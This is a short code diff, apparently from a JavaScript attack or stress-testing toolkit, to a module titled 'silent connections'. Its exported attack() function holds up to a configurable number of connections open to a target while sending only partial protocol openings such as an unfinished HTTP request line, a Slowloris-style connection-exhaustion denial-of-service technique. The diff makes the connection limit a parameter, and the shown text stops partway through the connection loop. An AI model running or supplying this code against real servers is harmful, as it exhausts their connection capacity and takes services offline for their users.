@@ -6,10 +6,10 @@ export const title = 'silent connections';
 const BEGUN = ['', 'P', 'PRI * HT', 'GET / HTTP/1.1\r\nHost:'];
 const AT_ONCE = 500;
 
-export async function attack(where) {
+export async function attack(where, atOnce = AT_ONCE) {
   const open = new Set();
   for (let each = 0; ; each++) {
-    const socket = open.size < AT_ONCE ? await connect(where) : null;
+    const socket = open.size < atOnce ? await connect(where) : null;
     if (!socket) {
       await new Promise((resolve) => setTimeout(resolve, 20));
       continue;
